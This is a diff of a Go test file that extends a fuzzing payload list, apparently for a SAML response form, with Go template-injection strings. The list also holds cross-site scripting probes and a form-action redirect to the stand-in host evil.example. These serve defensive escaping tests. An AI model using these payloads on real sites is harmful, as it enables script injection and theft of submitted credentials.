@@ -44,7 +44,7 @@ var c17ReqHeaders = [][2]string{{"Range", "bytes=0-99"}, {"Range", "bytes=100-"}
 var c17Payloads = []string{
 	"\"", "'", "<", ">", "&", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\"/><input name=\"x\" value=\"", "</form><form action=\"https://evil.example\">", "&quot;", "&#34;", "&amp;quot;", "&lt;",
 	"\x00", "\r", "\n", "\r\n", "\t", "\x0b", "\x0c", "\x1f", "\x7f", "\xff", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe2\x82",
-	"ü", "€", "𝄞", " ", "\ufeff", "\ufffd", "\ufffe", "a", "b c", "AAAA", "=", "+", "/", "%", "%22", "%00", "{{.}}", "{{", "`", "\\", "\\\"", "javascript:alert(1)", "<!--", "-->", "<![CDATA[", "]]>", "<?", "&#x", "&#0;", "&;",
+	"ü", "€", "𝄞", " ", "\ufeff", "\ufffd", "\ufffe", "a", "b c", "AAAA", "=", "+", "/", "%", "%22", "%00", "{{.}}", "{{", "{{ .SAMLResponse }}", "{{ .RelayState }}", "{{ .AssertionConsumerServiceURL }}", "{{ .LogoutURL }}", "{{.SAMLResponse}}", "{{ . }}", "{{/* x */}}", "{{ .SAMLResponse }}{{ .SAMLResponse }}", "`", "\\", "\\\"", "javascript:alert(1)", "<!--", "-->", "<![CDATA[", "]]>", "<?", "&#x", "&#0;", "&;",
 }
 
 var c17URLs = []string{
